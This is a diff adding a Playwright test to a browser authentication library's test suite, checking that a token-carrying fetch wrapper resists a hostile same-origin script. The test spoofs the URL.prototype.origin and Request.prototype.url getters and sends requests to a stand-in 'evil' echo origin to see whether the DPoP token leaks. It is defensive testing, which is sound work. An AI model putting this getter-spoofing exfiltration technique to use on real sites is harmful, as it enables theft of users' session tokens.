@@ -4,6 +4,7 @@ import { test, expect, type BrowserContext, type Page } from "@playwright/test";
 import {
   STORM, UNTIL_DUE_MS, UNTIL_DUE_STORM_MS, events, hook, isAuthenticated, newUser, openTab, reset, sleep, stats,
 } from "./helpers";
+import { HOOKS_SECRET, LONG } from "./playwright.config";
 
 /** `n` tabs, logged in through the first one (the others learn it from the channel). */
 async function loggedInTabs(context: BrowserContext, n: number, options: object = {}, base?: string): Promise<Page[]> {
@@ -241,6 +242,40 @@ test.describe("a hostile script of the same origin", () => {
     await page.evaluate(() => (window as any).setup({}));
     expect(await page.evaluate(() => (window as any).auth.restore())).toBe(true);
     expect(await page.evaluate(() => (window as any).burst(1))).toEqual([200]);
+  });
+
+  test("redefined URL and Request getters cannot send the token to another origin", async ({ context }) => {
+    const [tab] = await loggedInTabs(context, 1);
+    // Another origin that answers this page (CORS) and echoes the Authorization it receives:
+    // what an attacker's server would do.
+    const results = await tab.evaluate(async ({ evil, secret }) => {
+      const here = location.origin;
+      const echo = evil + "/test/echo";
+      const URLp = URL.prototype as any;
+      const Reqp = Request.prototype as any;
+      const desc = Object.getOwnPropertyDescriptor;
+      const [origin, url] = [desc(URLp, "origin")!, desc(Reqp, "url")!];
+      // After the app loaded: every URL claims this page's origin, every Request this page's URL.
+      Object.defineProperty(URLp, "origin", { configurable: true, get() { return here; } });
+      Object.defineProperty(Reqp, "url", { configurable: true, get() { return here + "/test/echo"; } });
+      const headers = { "x-test-hooks-secret": secret };
+      const seen = async (p: Promise<Response>) => {
+        try { return (await (await p).json()).authorization ?? null; } catch (e) { return String(e); }
+      };
+      const auth = (window as any).auth;
+      const out = {
+        string: await seen(auth.fetch(echo, { headers })),
+        request: await seen(auth.fetch(new Request(echo, { headers }))),
+        own: "",
+      };
+      Object.defineProperty(URLp, "origin", origin);
+      Object.defineProperty(Reqp, "url", url);
+      out.own = await seen(auth.fetch("/test/echo", { headers }));
+      return out;
+    }, { evil: LONG, secret: HOOKS_SECRET });
+    expect(results.string, "a URL string of another origin").toBeNull();
+    expect(results.request, "a Request of another origin").toBeNull();
+    expect(results.own, "the app's own requests still carry it").toMatch(/^DPoP ey/);
   });
 
   test("a Web Lock held forever: NetworkError within refreshTimeoutMs + 1 s, and the session survives", async ({ context }) => {
